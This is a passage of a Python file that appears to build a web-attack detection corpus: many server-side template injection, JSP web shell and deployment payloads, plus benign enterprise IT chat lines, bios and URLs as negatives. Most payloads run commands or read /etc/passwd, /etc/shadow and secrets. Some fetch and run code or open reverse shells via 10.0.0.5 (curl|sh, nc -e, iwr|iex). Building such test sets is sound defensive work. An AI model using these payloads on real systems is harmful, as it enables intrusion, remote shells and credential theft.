     ".exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>", "multipart-field", "rs-xml"),
    ("<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>", "form", "rs-form"),
    ("<%! class U extends ClassLoader { U(ClassLoader c){super(c);} public Class g(byte[] b){return super."
     "defineClass(b,0,b.length);} } %><% new U(this.getClass().getClassLoader()).g(java.util.Base64.getDecoder()"
     ".decode(request.getParameter(\"p\"))).newInstance(); %>", "json", "rs-json"),
    "http://127.0.0.1:8080/manager/text/deploy?path=/pwn&war=http://10.0.0.5/pwn.war",
    ("action=invokeOpByName&name=jboss.system:service=MainDeployer&methodName=deploy&argType=java.lang.String"
     "&arg0=http://10.0.0.5/cmd.war", *KV),
    "filename*=UTF-8''..%2F..%2F..%2Fwebapps%2FROOT%2Fcmd.jsp",
]


# ================================================================================================================
# ssti: one sub-family per template engine; the comment names the products on that engine
# ----------------------------------------------------------------------------------------------------------------
# jinja2: Python/Jinja2 in Ansible Tower/AWX job templates, SaltStack pillar templates and old Flask admin tools
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/ansible/hosts').read() }}",
    "{{ lipsum.__globals__['os'].popen('salt-call --local grains.items').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    "{{ joiner.__init__.__globals__.os.environ }}",
]

# twig: PHP/Twig in Drupal 8, Craft CMS, Symfony 2 back offices and old Grav/Bolt sites
TWIG: list[Entry] = [
    "{{7*'7'}}{{_self}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{_self.env.registerUndefinedFilterCallback(\"system\")}}{{_self.env.getFilter(\"cat /etc/passwd\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /var/www/sites/default/settings.php']|map('passthru')|join}}",
    "{{[0]|reduce('system','whoami')}}",
    "{{ {'/bin/sh -c id':1}|keys|sort('system') }}",
    "{{app.request.server.all|join(',')}}",
    "{{ ['id',''] | sort('exec') }}",
    "{% set a = ['curl http://10.0.0.5/x|sh']|map('shell_exec') %}{{ a|join }}",
]

# freemarker: Java/FreeMarker in Liferay, Alfresco, Magnolia, Apache OFBiz and Atlassian Bamboo email templates
FREEMARKER: list[Entry] = [
    "${7*7}${\"freemarker\"?upper_case}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /opt/liferay/portal-ext.properties\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "\"id\").start()}",
    "<#assign jy=\"freemarker.template.utility.JythonRuntime\"?new()><@jy>import os;os.system(\"id\")</@jy>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)>"
    "<#assign ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "${.data_model?keys?join(\",\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('whoami')}",
    "<#list .globals?keys as k>${k}</#list>",
]

# velocity: Java/Velocity in Confluence and Jira (older releases), Apache Solr's VelocityResponseWriter
# (CVE-2019-17558), Apache Roller and Liferay 6 themes
VELOCITY: list[Entry] = [
    "#set($x=7*7)${x}",
    "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    ("v.template=custom&v.template.custom=#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) "
     "#set($ex=$rt.getRuntime().exec('id')) $ex.waitFor()", "query", "rs-query"),
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"cat /etc/passwd\").waitFor()",
    "#foreach($i in [1..9999999])#foreach($j in [1..9999999])$i#end#end",
    "$request.getSession().getServletContext().getRealPath('/')",
    "#set($s=$req.getClass().getClassLoader().loadClass('java.lang.System'))$s.getenv()",
    ("{\"contentId\":\"786457\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.viddler.com/v/23464dc5\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":"
     "\"file:///etc/passwd\"}}}", *JB),
]

# thymeleaf: Java/Thymeleaf in Spring MVC apps, where a view name or fragment selector comes from the request
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('calc')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/thy')}__}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('whoami').getInputStream())}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "__|$${#response.setHeader(\"X-Pwn\",T(java.lang.System).getProperty(\"user.name\"))}|__::x",
    "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
]

# erb: Ruby ERB in Rails 2/3 apps (Redmine plugins, render inline: of a parameter) and Puppet templates
ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('cat /opt/redmine/config/database.yml').readlines() %>",
    "<%= File.open('/etc/shadow').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('whoami')[0] %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= ENV.to_h %>",
    "<% Kernel.exec('nc 10.0.0.5 4444 -e /bin/sh') %>",
]

# smarty: PHP/Smarty in old PHP products (CMS Made Simple, X-Cart, CS-Cart, Piwigo, WHMCS themes, Tiki)
SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('cat /etc/passwd')}{/if}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
    "{fetch file='/etc/passwd'}",
    "{include file='file:/etc/passwd'}",
    "{self::getStreamVariable(\"file:///var/www/config.php\")}",
    "{math equation=\"system('id')\"}",
]

# handlebars: Handlebars in Node.js back ends (Ghost themes, old Express intranets): the Function constructor
# reached through the helpers and the prototype chain (the 4.0.x with-block gadget)
HB_RCE = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
          "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
          "\"return require('child_process').execSync('%s');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub."
          "apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    HB_RCE % "id",
    HB_RCE % "cat /etc/passwd",
    HB_RCE.replace("require('child_process')", "process.mainModule.require('child_process')") % "whoami",
    "{{#with this as |o|}}{{#with (o.constructor.constructor \"return process.env\")}}{{this}}{{/with}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'name'}}",
    "{{#each (lookup this \"__proto__\")}}{{@key}}{{/each}}",
    "{{constructor.constructor 'return process.mainModule.require(\"child_process\").execSync(\"id\")'}}",
    "{{#blockHelperMissing \"constructor\"}}{{this.constructor}}{{/blockHelperMissing}}",
    "{{{lookup this 'settings'}}}",
]

# pug: Pug/Jade in Express apps (the template source or a mixin name from the request)
PUG: list[Entry] = [
    "#{7*7}",
    "#{root.process.mainModule.require('child_process').execSync('id')}",
    "- var x = global.process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()\n= x",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec("
    "'curl http://10.0.0.5/p|sh')}()}",
    "p= process.env",
    "- global.process.mainModule.require('child_process').exec('nc 10.0.0.5 4444 -e /bin/sh')",
    "#{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')}",
    "include /etc/passwd",
    "!{global.process.mainModule.require('fs').readFileSync('/etc/shadow','utf8')}",
]

# mako: Python/Mako in Pylons and Pyramid apps of the 2010s (old ticketing and reporting portals)
MAKO: list[Entry] = [
    "${7*7}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.template.module.runtime.util.os.popen('cat /etc/passwd').read()}",
    "<%! import subprocess %>${subprocess.check_output(['whoami'])}",
    "${__import__('os').popen('uname -a').read()}",
    "<%namespace file=\"/etc/passwd\" import=\"*\"/>",
    "${self.attr._NSAttr__parent.module.cache.util.os.popen('env').read()}",
    "<% __import__('subprocess').call(['/bin/sh','-c','curl 10.0.0.5|sh']) %>",
]

# tornado: Python/Tornado templates (old internal dashboards built on Tornado)
TORNADO: list[Entry] = [
    "{{7*7}}{{handler.settings}}",
    "{% import os %}{{ os.popen('id').read() }}",
    "{% import subprocess %}{{ subprocess.check_output('cat /etc/passwd', shell=True) }}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{% raw __import__('os').system('whoami') %}",
    "{% apply __import__('os').popen %}id{% end %}",
    "{{ __import__('os').environ }}",
    "{% module __import__('os').system('touch /tmp/tornado') %}",
    "{{ handler.request.headers }}",
]

# nunjucks: Nunjucks in Node.js back ends (Express intranets, Keystone admin screens)
NUNJUCKS: list[Entry] = [
    "{{7*7}}{{range.constructor}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')"
    "\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor(\"return require\")() }}",
    "{{''.toString.constructor.call({},\"return global.process.mainModule.constructor._load('child_process')"
    ".execSync('whoami').toString()\")()}}",
    "{% set x = range.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/shadow','utf8')\")() %}"
    "{{x}}",
    "{{ dump(this) }}",
    "{% include '/etc/passwd' %}",
]

# ejs: EJS in Express apps (the template source, or the render options from req.query: outputFunctionName)
EJS: list[Entry] = [
    "<%= 7*7 %><%= process.version %>",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% require('child_process').exec('nc 10.0.0.5 4444 -e /bin/sh') %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('touch "
     "/tmp/ejs');s", *KV),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule"
     ".constructor._load('child_process').execSync('id');", *KV),
    "<%- include('/etc/passwd') %>",
    "<%= JSON.stringify(process.env) %>",
    "<%= this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami') %>",
]

# pebble: Java/Pebble templates (Spring apps that moved off Velocity, some CMS email templates)
PEBBLE: list[Entry] = [
    "{{ 7*7 }}{{ beans }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pebble') }}",
    "{{ request.getServletContext().getClassLoader() }}",
    "{% for k in beans.keySet() %}{{ k }}{% endfor %}",
    "{{ beans.get('dataSource').getConnection() }}",
    "{{ ''.class.forName('java.lang.System').getenv() }}",
    "{{ environment.getProperty('spring.datasource.password') }}",
]

# razor: C#/Razor templates compiled at run time (DotNetNuke and Umbraco macros, Orchard, RazorEngine in
# ASP.NET MVC intranets, next to the classic ASP and WebForms sites)
RAZOR: list[Entry] = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")",
    "@{ System.Diagnostics.Process.Start(\"powershell.exe\", \"-nop -c iwr http://10.0.0.5/a.ps1|iex\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\")",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
    "p.StartInfo.Arguments = \"/c net user\"; p.Start(); }",
    "@System.Configuration.ConfigurationManager.ConnectionStrings[0].ConnectionString",
    "@Html.Raw(System.IO.File.ReadAllText(@\"C:\\Windows\\win.ini\"))",
    "@System.Reflection.Assembly.Load(Convert.FromBase64String(Request[\"a\"])).EntryPoint.Invoke(null,null)",
]

# go-templates: Go text/template and html/template (Hugo sites, Helm charts and consul-template in internal
# tooling with Sprig functions, Gin apps that render user text as a template)
GO_TEMPLATES: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ env \"DATABASE_URL\" }}",
    "{{ expandenv \"$AWS_SECRET_ACCESS_KEY\" }}",
    "{{define \"T1\"}}<script>alert(document.domain)</script>{{end}}{{template \"T1\"}}",
    "{{ .System \"id\" }}",
    "{{ call .Exec \"cat\" \"/etc/shadow\" }}",
    "{{ range $i, $e := until 99999999 }}{{ range until 99999999 }}x{{ end }}{{ end }}",
]

# liquid: Liquid in Shopify-style storefronts, Jekyll builds and DotLiquid/Liqp in .NET and Java CMSs:
# sandboxed, so file reads through include, secrets through exposed drops, and render-time exhaustion
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% include '../../../../../../etc/passwd' %}",
    "{% include_relative ../../../../etc/passwd %}",
    "{% render '/etc/passwd' %}",
    "{{ site.github.api_url }}{{ site }}",
    "{% for i in (1..9999999) %}{% for j in (1..9999999) %}x{% endfor %}{% endfor %}",
    "{{ settings | json }}",
    "{% assign k = 'x' %}{% for i in (1..30) %}{% assign k = k | append: k %}{% endfor %}{{ k }}",
    "{{ shop.metafields | json }}{{ content_for_header }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", CLOUD_METADATA),
    ("generic", "ssrf-internal-ip", INTERNAL_IP),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# fixed entries of these sub-families written as `name=value` are binding parameters, sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "php-data-scheme", "java-serialization", "expression-language",
               "class-loading", "jsp-upload", "velocity", "ejs"}
SSRF_SUBS = ("ssrf-cloud-metadata", "ssrf-internal-ip")


# ----------------------------------------------------------------------------------------------------------------
# Placements
def _is_stream(payload: str) -> bool:
    """A serialized Java stream held as raw bytes (latin-1 text)."""
    return payload.startswith("\xac\xed\x00\x05")


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("form", "query", "param-name", "rs-param-name", "rs-query", "rs-form")
    documents = True   # XMLDecoder, XStream and SOAP documents go as the whole XML body
    unique = True
    upload = JSP_SHELL   # a JSP upload carries the web shell
    file_type = "application/octet-stream"
    names = ["q", "data", "filter", "expr", "name", "message", "state", "username"]
    url_names = ["url", "callback", "webhook", "feed", "wsdl", "endpoint", "imageUrl"]
    ssti_names = ["template", "name", "message", "subject", "greeting", "title", "q"]
    latin_cycles: Cycles = (("query", "form", "param-name", "cookie"),
                            ("rs-query", "rs-form", "rs-raw-body", "rs-cookie", "rs-param-name"))
    upload_cycles: Cycles = (("multipart-filename",), ("rs-multipart-filename",))
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        pool: Sequence[str] = self.names
        if sub in SSRF_SUBS:
            pool = self.url_names
        elif category == "ssti":
            pool = self.ssti_names
        return pool[k % len(pool)]

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if _is_stream(payload):
            return self.latin_cycles
        if sub == "jsp-upload" and "<" not in payload and "://" not in payload:
            return self.upload_cycles   # a file name: the upload carries the shell
        return super().cycles(category, sub, payload)

    def is_latin(self, sub: str, payload: str) -> bool:
        return _is_stream(payload)

    def fits(self, place: str, v: str) -> bool:
        """Cookies carry a raw stream percent-encoded."""
        return (place in ("cookie", "rs-cookie") and _is_stream(v)) or super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: enterprise IT staff in Slack discussing migrations off these platforms (tickets, server names, versions,
# SAP transaction codes, COBOL copybooks, job names), bios of mainframe and ERP engineers, searches for colleagues
# by platform, vendor documentation links, quoted error codes and messages, export and report file names
CHAT = [
    # migration chatter
    "CHG0041877 approved: WebLogic 10.3.6 domain on wlsprd03 goes read-only Saturday 22:00, cutover to Tomcat 9",
    "JBoss 5.1 on jbapp01 still hosts the claims portal, the decommission ticket is INC0098812",
    "we are finally off Struts 1.3, last action mapping moved to Spring MVC in release 24.06",
    "Struts 2.5.33 upgrade done on the vendor portal, OGNL allowlist config is in the runbook",
    "log4j 1.2 jars are still inside the Informix 11.70 client tools, security accepted the risk until Q3",
    "the Log4j 2.17.1 remediation report for the JBoss estate is in SharePoint, 41 servers patched",
    "ColdFusion 2016 is out of support, the HR forms move to the low-code platform, CFIDE already locked to VPN",
    "can someone with SE38 access run report RSUSR002 for the FI team? ticket RITM0077321",
    "transport DEVK912345 failed in STMS with return code 8, check the log in SE01",
    "SM59 connection to the BW system times out again, basis team is on it",
    "ST22 shows TSV_TNEW_PAGE_ALLOC_FAILED on the payroll run, we need more extended memory",
    "SU01 lock for the RFC user RFC_EBS_IF happened after 5 failed logons, unlocked",
    "COBOL copybook CUSTREC.cpy changed the PIC clause of CUST-BAL, the Java mapper needs regenerating",
    "batch job PAYRL01 abended with S0C7 in step STEP040, bad packed decimal in the input file",
    "JCL for NIGHTLY.GL.EXTRACT now writes to a GDG, the SFTP pickup uses generation (0)",
    "AS/400 partition PRDLPAR2: WRKACTJOB shows QZDASOINIT jobs piling up from the ODBC pool",
    "DSPJOBLOG for the failed EDI job says CPF4131, the file format changed after the PTF",
    "Domino 9.0.1 FP10 on mailhub02 retires in September, mail already migrated, only the workflow apps remain",
    "names.nsf replication between the two Domino servers is failing, someone look at the server console",
    "Oracle EBS 12.2.9: concurrent manager on ebsapp02 stuck in Pending Standby, restarted via adcmctl.sh",
    "FNDLOAD of the responsibility definitions went fine, next is the personalisation export",
    "WebSphere 8.5.5 cell WASCELL01 node sync failing, the deployment manager cert expired",
    "wsadmin -lang jython script for the JDBC providers is in the ops repo under was/scripts",
    "the old Perl CGI order tracker on intranet02 returns a 500, probably the DBI driver after the OS patch",
    "classic ASP timesheet app still uses ADODB against the Sybase ASE 15.7 box, migration ticket MIG-208",
    "ASP.NET WebForms ViewState MAC validation error on the claims app after the machine key rotation",
    "DB2 for z/OS DSNT408I SQLCODE = -805 on the new package, needs a BIND with the right collection",
    "Informix onstat -g ses shows 300 sessions from the reporting tool, the pool limit is too high",
    "Sybase isql login works from jump01 but the JDBC driver fails with JZ00L, probably the password encryption",
    "Tomcat manager app is removed from all prod instances now, deployments go through the pipeline",
    "the JMX console on the old JBoss is bound to localhost only, verified by the pentest retest",
    "mainframe CICS region CICSPRD1 restarted at 02:10, transaction ACCT abended with AEI0",
    "SOAP endpoint for the SAP PI adapter returns HTTP 500 with a SOAP fault, WSDL changed in the last transport",
    "XML-RPC interface of the old PHP CMS is disabled, the marketing team uses the new CMS API",
    "Velocity templates in Confluence 6 user macros need review before the Cloud migration",
    "Liferay 6.2 FreeMarker themes are being rewritten for DXP 7.4",
    "Jinja2 template for the Ansible inventory uses {{ inventory_hostname }} and {{ ansible_host }}",
    "the Puppet ERB template for httpd.conf has <%= @port %> and the port fact was empty on one node",
    "JAVA_HOME in setDomainEnv.sh points at jdk1.7.0_80, please update it to the 8u401 path",
    "we use ${CATALINA_BASE}/conf/server.xml per instance, not the shared one",
    "ProcessBuilder in the batch launcher replaced Runtime.exec, same behaviour but cleaner args",
    "serialVersionUID mismatch after the EAR rebuild: InvalidClassException on the session replication",
    "the EJB client still uses RMI-IIOP to the WebSphere cell, firewall rule for 2809 requested",
    "IMDSv2 is now required on all migrated EC2 instances, hop limit 1, the old SDK on the SAP host was updated",
    "ssrf findings from the pentest were about the PDF generator fetching URLs, fixed with an allowlist",
    "Oracle UTL_HTTP ACLs are restricted to the payment gateway hosts now",
    "the Smarty templates in the old shop system are being ported to Twig",
    "Thymeleaf layout dialect upgrade broke th:replace on the login page, fixed with the new fragment syntax",
    "Razor views in the DotNetNuke modules compile fine after the .NET 4.8 upgrade",
    "Go templates in the Helm chart: use {{ .Values.image.tag }} not the hardcoded version",
    "the Liquid templates in the Jekyll docs site use {% include note.html %} for callouts",
    "Node 8 on the BFF is EOL, upgrade to Node 20 is in sprint 42, child_process use is only in the build scripts",
    "npm audit flagged lodash prototype pollution in the old admin UI, bumped to 4.17.21",
    "XStream 1.4.20 everywhere now, the allowlist covers our DTO packages only",
    "Jackson default typing is off in all services, the audit checked ObjectMapper configs",
    "the JSP pages of the vendor portal compile under Tomcat 9 after removing the old taglibs",
    "the HTML report of the AS/400 spool files is generated by a Java job on the IFS",
    # support and coordination
    "who owns the WebLogic console certificates? they expire on 14 July",
    "anyone have the DB2 connect license file for the new jump host?",
    "reminder: change freeze for the SAP year-end close starts 15 December",
    "migration office hours Thursday 14:00, bring your Struts, JBoss and ColdFusion questions",
    "mainframe team says the new copybook layout goes live with the March release",
    # bios
    "Mainframe engineer, 22 years of COBOL, JCL, CICS and DB2 for z/OS. Now helping move batch to Java.",
    "SAP Basis consultant. Transports, kernel upgrades, SM59 and the occasional ST22 deep dive.",
    "Oracle E-Business Suite DBA. Concurrent managers, AutoConfig, adop patching cycles.",
    "IBM i (AS/400) developer. RPG IV, CL, SQL on DB2 for i. Happy to explain QTEMP.",
    "WebSphere and JBoss admin turned platform engineer. Ask me about wsadmin and JMX.",
    "Lotus Domino developer since R5, LotusScript and XPages, now migrating apps off Notes.",
    "ColdFusion and classic ASP maintainer, slowly retiring both.",
    "Java middleware architect: WebLogic, Tomcat, Spring, and way too much XML config.",
]

SEARCHES = [
    "sap basis", "cobol", "mainframe", "as400", "weblogic", "jboss", "websphere", "domino", "coldfusion",
    "struts", "tomcat", "oracle ebs", "db2", "informix", "sybase", "perl", "classic asp", "webforms", "jcl",
    "cics", "rpg", "lotus notes", "log4j", "java", "node", "ruby", "rails", "velocity", "freemarker", "jinja",
    "twig", "smarty", "razor", "liferay", "confluence", "soap", "xml-rpc", "middleware", "erp", "abap",
    "S/4HANA", "z/OS", "iSeries", "O'Connor", "Jean-Luc", "Müller", "integration team", "batch", "payroll",
    "basis on-call",
]

URLS = [
    "https://help.sap.com/docs/SAP_NETWEAVER_750/ST22-dump-analysis",
    "https://docs.oracle.com/cd/E26401_01/doc.122/e22953/T174296T174302.htm",
    "https://docs.oracle.com/middleware/12213/wls/WLACH/taskhelp/domainconfig/CreateDomain.html",
    "https://www.ibm.com/docs/en/was/8.5.5?topic=scripting-wsadmin-tool",
    "https://www.ibm.com/docs/en/db2-for-zos/12?topic=codes-sqlcode-805",
    "https://www.ibm.com/docs/en/i/7.4?topic=commands-work-active-jobs-wrkactjob",
    "https://www.ibm.com/docs/en/informix-servers/14.10?topic=utility-onstat-g-ses-command",
    "https://help.hcltechsw.com/domino/12.0.2/admin/conf_replication.html",
    "https://helpx.adobe.com/coldfusion/kb/coldfusion-lockdown-guide.html",
    "https://struts.apache.org/security/",
    "https://struts.apache.org/core-developers/ognl.html",
    "https://tomcat.apache.org/tomcat-9.0-doc/manager-howto.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2017-10271",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://wiki.corp.example/display/MIG/WebLogic+to+Tomcat+runbook",
    "https://servicenow.corp.example/nav_to.do?uri=change_request.do?sys_id=CHG0041877",
]

PROSE = [
    "SAP Basis team - transports and SM59 destinations",
    "COBOL copybook owners (CUSTREC, ACCTMST, GLDETAIL)",
    "batch job PAYRL01 support contacts",
    "mainframe on-call rota March",
    "AS/400 operators night shift",
    "WebLogic 10.3.6 decommission working group",
    "JBoss EAP 5 application owners",
    "WebSphere 8.5 cell administrators",
    "Domino application migration team",
    "ColdFusion 2016 forms owners",
    "Oracle EBS 12.2 concurrent manager admins",
    "DB2 z/OS DBAs",
    "Informix and Sybase legacy support",
    "Perl CGI intranet maintainers",
    "classic ASP timesheet owners",
    "Struts 1 to Spring MVC migration squad",
    "Tomcat 9 platform team",
    "log4j remediation 2021 task force",
    "SOAP and XML-RPC integration owners",
    "people who know RPG IV",
    "ABAP developers in Walldorf",
    "CICS region owners",
    "JCL reviewers",
    "FNDLOAD and personalisation experts",
    "ST22 dump triage volunteers",
    "Velocity and FreeMarker template authors",
    "Jinja2 / Ansible automation team",
    "Razor and DotNetNuke module owners",
    "legacy Ruby on Rails 3 app owners",
    "Node BFF maintainers for SAP OData",
    "engineers with IBM i security training",
    "S0C7 abend in STEP040 - who can help?",
    "SQLCODE -805 bind questions",
    "error CPF4131 on EDI files",
    "InvalidClassException after EAR rebuild",
    "JZ00L login failure Sybase",
    "ORA-29273 HTTP request failed from UTL_HTTP",
    "migration office hours attendees",
    "retired platforms list 2024",
    "year-end close change freeze contacts",
]

PROFILES = [
    ("Brigitte Hoffmann", "Dietmar-Hopp-Allee 16, Walldorf"),
    ("Raj Iyer", "Manyata Tech Park, Bengaluru"),
    ("Marta Kowalczyk", "ul. Domaniewska 44, Warsaw"),
    ("Tom O'Connor", "Harcourt St 12, Dublin"),
    ("Linda Schultz", "Armonk Rd 1, Armonk NY"),
    ("Kenji Watanabe", "Hakozaki 19-21, Tokyo"),
    ("Ana Ferreira", "Av. da Liberdade 110, Lisbon"),
    ("Jean-Luc Martin", "Tour Granite, La Défense"),
    ("Peter Müller", "Rochusstraße 5, Bonn"),
    ("Grace Okafor", "Victoria Island, Lagos"),
    ("Sven Lindqvist", "Kista Science Tower, Stockholm"),
    ("Carlos Ruiz", "Paseo de la Castellana 81, Madrid"),
    ("Mainframe Services Ltd", "Poughkeepsie Business Park, NY"),
    ("Legacy Modernisation Team", "Building 7, Hursley Park, Winchester"),
    ("Basis Support Desk", "Floor 3, Ringstraße 8, Vienna"),
